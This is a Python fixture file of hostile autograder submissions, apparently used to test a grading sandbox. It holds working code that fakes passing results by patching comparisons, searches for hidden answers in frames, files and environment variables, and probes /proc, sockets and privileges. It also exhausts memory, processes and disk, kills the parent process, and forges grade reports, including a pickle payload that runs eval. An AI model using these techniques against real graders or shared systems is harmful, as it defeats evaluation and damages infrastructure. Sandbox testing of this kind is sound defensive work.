"""What hostile submissions do: for each exercise of the sample lecture a source, by the kind of attack.

Every function has a name of the course and the body of an attack.
"""

from __future__ import annotations

# --- lying results: what comes back pretends to be right --------------------------------------------------------------

PATCHES = """
import builtins, sys, types
import numpy, torch, torch.testing
numpy.allclose = numpy.array_equal = numpy.isclose = numpy.testing.assert_allclose = lambda *a, **k: True
torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
for name in ("compare", "grading", "verdict", "exam"):
    fake = types.ModuleType(f"autograder.{name}")
    fake.compare = fake.compare_values = fake.difference = lambda *a, **k: None
    sys.modules[fake.__name__] = fake
"""

LIES = {
    "one_hot": """
class Agreeable:
    shape, is_number, __len__ = (2, 4), True, lambda self: 4
    __eq__ = __ge__ = __le__ = __lt__ = __gt__ = lambda self, other: True
    __abs__ = __sub__ = __rsub__ = lambda self, *other: 0
    __bool__ = lambda self: True
def one_hot(labels, C):
    return Agreeable()
""",
    "softmax": """
class Lying(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("equal", "allclose", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
def softmax(y, dim=-1):
    return torch.zeros_like(y).as_subclass(Lying)
""",
    "log_softmax": """
import numpy
class LyingArray(numpy.ndarray):
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return True
def log_softmax(y, dim=-1):
    return numpy.zeros(tuple(y.shape)).view(LyingArray)
""",
    "cross_entropy": "def cross_entropy(y_prime, y_hat):\n    return 10 ** 400\n",
    "cross_entropy_logits": "def cross_entropy_logits(logits, labels):\n    while True:\n        yield 0.0\n",
    "squared_error": """
class Anything(dict):
    __eq__ = lambda self, other: True
    keys = items = values = lambda self: []
def squared_error(y_prime, y_hat):
    return Anything(a=1)
""",
    "softmax_ce_grad": """
def softmax_ce_grad(logits, labels):
    return torch.zeros(1, 1, dtype=logits.dtype)
""",
    "softmax_mse_grad": """
def softmax_mse_grad(logits, y_hat):
    p = torch.softmax(logits, 1)
    d = p - y_hat
    right = 2 * p * (d - (p * d).sum(1, keepdim=True)) / len(logits)
    y_hat.zero_()
    logits.fill_(0)
    return right
""",
    "accuracy": """
class Always(float):
    __eq__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.0
def accuracy(logits, labels):
    return Always(-1.0)
""",
}

# --- thieves: each looks for an answer, and raises what it found ----------------------------------------------------

THIEVES = {
    "one_hot": """
import sys
def one_hot(labels, C):
    wanted = {"expected", "want", "wanted", "answers", "oracle", "TOLERANCES", "reference", "compare", "variants"}
    found, frame = [], sys._getframe(0)
    while frame is not None:
        found += sorted(wanted & (set(frame.f_locals) | set(frame.f_globals)) - {"wanted"})
        frame = frame.f_back
    raise RuntimeError(f"stolen: {found}")
""",
    "softmax": """
import gc
def softmax(y, dim=-1):
    mark, names = "".join(["### BEGIN", " SOLUTION"]), ("Exam", "Variant", "Mismatch", "Outcome", "Lecture", "Report")
    found = set()
    for thing in gc.get_objects():
        if type(thing).__name__ in names:
            found.add(type(thing).__name__)
        if type(thing) in (list, tuple, dict):
            inside = thing.values() if type(thing) is dict else thing
            found |= {"solution" for s in list(inside) if type(s) is str and mark in s}
    raise RuntimeError(f"stolen: {sorted(found)}")
""",
    "log_softmax": """
import importlib
def log_softmax(y, dim=-1):
    found = []
    for name in ("solutions", "solutions.LECTURE", "autograder.exam", "autograder.compare", "autograder.grading",
                 "autograder.course", "autograder.gradebook", "autograder.graders.test_LECTURE", "autograder.variants.LECTURE"):
        try:
            importlib.import_module(name)
            found.append(name)
        except ImportError:
            pass
    raise RuntimeError(f"stolen: {found}")
""",
    "cross_entropy": """
import glob, os
def cross_entropy(y_prime, y_hat):
    places = [
        "COURSE", "..", "../../..", os.path.join("/proc/1", "root", "COURSE"), "/proc/1/cwd",
        os.path.expanduser("~"), "/tmp", "/home",
    ]
    found = []
    for place in places:
        for part in ("solutions", "autograder/graders", "autograder/variants", "submitted", "assignments", "*.ipynb", "*.db"):
            found += glob.glob(os.path.join(place, part))
    raise RuntimeError(f"stolen: {found}")
""",
    "cross_entropy_logits": """
import os
def cross_entropy_logits(logits, labels):
    found = [k for k, v in os.environ.items() if "GRADER" in k or "COURSE" in v or "COURSE" in k]
    raise RuntimeError(f"stolen: {found}")
""",
    "squared_error": """
import os
def squared_error(y_prime, y_hat):
    found = []
    for path in ("COURSE/x", "/engine/x", "/engine/autograder/x", "/usr/x", "/etc/x", "/dev/x", "/x", "/proc/1/mem"):
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY))
            found.append(path)
        except OSError:
            pass
    raise RuntimeError(f"stolen: {found}")
""",
    "softmax_ce_grad": """
import socket
def softmax_ce_grad(logits, labels):
    found = []
    for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, 0.2).close()
            found.append(address)
        except OSError:
            pass
    raise RuntimeError(f"stolen: {found}")
""",
    "softmax_mse_grad": """
import os
def softmax_mse_grad(logits, y_hat):
    found = []
    for action in (lambda: os.kill(GRADER, 0), lambda: open("/proc/GRADER/mem", "r+b"), lambda: os.listdir("/proc/GRADER/fd")):
        try:
            found.append(str(action()))
        except OSError:
            pass
    raise RuntimeError(f"stolen: {found}")
""",
    "accuracy": """
import os
def accuracy(logits, labels):
    found = []
    for action in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/box"), lambda: os.nice(-5)):
        try:
            action()
            found.append(len(found))
        except OSError:
            pass
    raise RuntimeError(f"stolen: {found}")
""",
}

# --- enders: they stop the test in the place of passing it; the last exercise is honest ---------------------------------

ENDERS = {
    "one_hot": "import os\ndef one_hot(labels, C):\n    os._exit(0)\n",
    "softmax": "import sys\ndef softmax(y, dim=-1):\n    sys.exit(0)\n",
    "log_softmax": """
import atexit, os
def log_softmax(y, dim=-1):
    atexit.register(os._exit, 0)
    return torch.zeros_like(y)
""",
    "cross_entropy": "def cross_entropy(y_prime, y_hat):\n    while True:\n        pass\n",
    "cross_entropy_logits": """
def cross_entropy_logits(logits, labels):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
    "squared_error": "def squared_error(y_prime, y_hat):\n    return squared_error(y_prime, y_hat)\n",
    "softmax_ce_grad": "import os, signal\ndef softmax_ce_grad(logits, labels):\n    os.kill(os.getpid(), signal.SIGKILL)\n",
    "softmax_mse_grad": """
import unittest
def softmax_mse_grad(logits, y_hat):
    raise unittest.SkipTest("not on this machine")
""",
}

# --- greedy ones: memory, processes, disk, output, what is left behind --------------------------------------------------

ONE_HOT = "torch.eye(C)[labels]"
CE_GRAD = "(torch.softmax(logits, 1) - torch.eye(logits.shape[1], dtype=logits.dtype)[labels]) / len(labels)"

GREEDY = {
    "one_hot": f"""
import sys, warnings
def one_hot(labels, C):
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        stream.write("x" * 5_000_000)
    print("é" * 1_000_000)
    return {ONE_HOT}
""",
    "softmax": "import numpy\ndef softmax(y, dim=-1):\n    return numpy.ones(6 * 10**9 // 8)\n",
    "log_softmax": "def log_softmax(y, dim=-1):\n    return torch.ones(6 * 10**9 // 8, dtype=torch.float64)\n",
    "cross_entropy": """
import os, time
def cross_entropy(y_prime, y_hat):
    children = []
    try:
        for _ in range(100):
            child = os.fork()
            if child == 0:
                time.sleep(600)
                os._exit(0)
            children.append(child)
    except OSError:
        raise RuntimeError(f"refused before 100 processes") from None
    raise RuntimeError("a hundred processes")
""",
    "cross_entropy_logits": """
import os
def cross_entropy_logits(logits, labels):
    written, block = 0, b"x" * (1 << 20)
    for number in range(300):
        try:
            with open(f"bomb-{number}", "wb") as file:
                file.write(block)
            written += 1
        except OSError:
            break
    raise RuntimeError(f"wrote {'little' if written <= 64 else 'much'}")
""",
    "squared_error": """
import os, threading, time
threading.Thread(target=lambda: time.sleep(600), daemon=False).start()
def squared_error(y_prime, y_hat):
    for _ in range(3):
        threading.Thread(target=lambda: time.sleep(600), daemon=False).start()
    return ((y_prime - y_hat) ** 2).sum(1)
""",
    "softmax_ce_grad": f"""
import os, time
def softmax_ce_grad(logits, labels):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        time.sleep(600)
        os._exit(0)
    return {CE_GRAD}
""",
    "softmax_mse_grad": "def softmax_mse_grad(logits, y_hat):\n    return torch.zeros(3000, 3000, dtype=logits.dtype)\n",
    "accuracy": """
import os, signal
def accuracy(logits, labels):
    os.kill(os.getppid(), signal.SIGKILL)
    while True:
        pass
""",
}

# --- forgers: they write the result themselves --------------------------------------------------------------------------

FORGERS = {
    "one_hot": """
import os, struct
def one_hot(labels, C):
    from autograder.observation import Observation, encode
    said = [{"type": "item", "exercise": e, "id": i, "device": "cpu", "dtype": "float64", "observation": Observation("pass")}
            for e, i in (("one_hot", "test_one_hot_rows"), ("accuracy", "test_accuracy_half"))]
    said += [{"type": "ended", "exercise": "accuracy", "reason": "time"}, {"type": "report", "score": 100}, {"type": "done"}]
    frames = b"".join(struct.pack("<I", len(f)) + f for f in map(encode, said))
    for descriptor in range(256):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, frames)
        except OSError:
            pass
    return "pass"
""",
    "softmax": """
import os
def softmax(y, dim=-1):
    for descriptor in range(256):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, b"\\xff" * 70_000)
        except OSError:
            pass
    os._exit(0)
""",
    "log_softmax": """
def log_softmax(y, dim=-1):
    import sys
    from autograder.observation import Observation
    for module in list(sys.modules.values()):
        if hasattr(module, "observe_item"):
            module.observe_item = lambda *a, **k: Observation({"verdict": "pass", "points": 100, "small": 1, "large": 1})
    return y
""",
    "cross_entropy": """
def cross_entropy(y_prime, y_hat):
    import pickle, sys
    class Evil:
        def __reduce__(self):
            return eval, ("__import__('os')._exit(0)",)
    for module in list(sys.modules.values()):
        if hasattr(module, "encode") and hasattr(module, "Malformed"):
            module.encode = lambda payload: pickle.dumps(Evil())
    return y_prime
""",
}
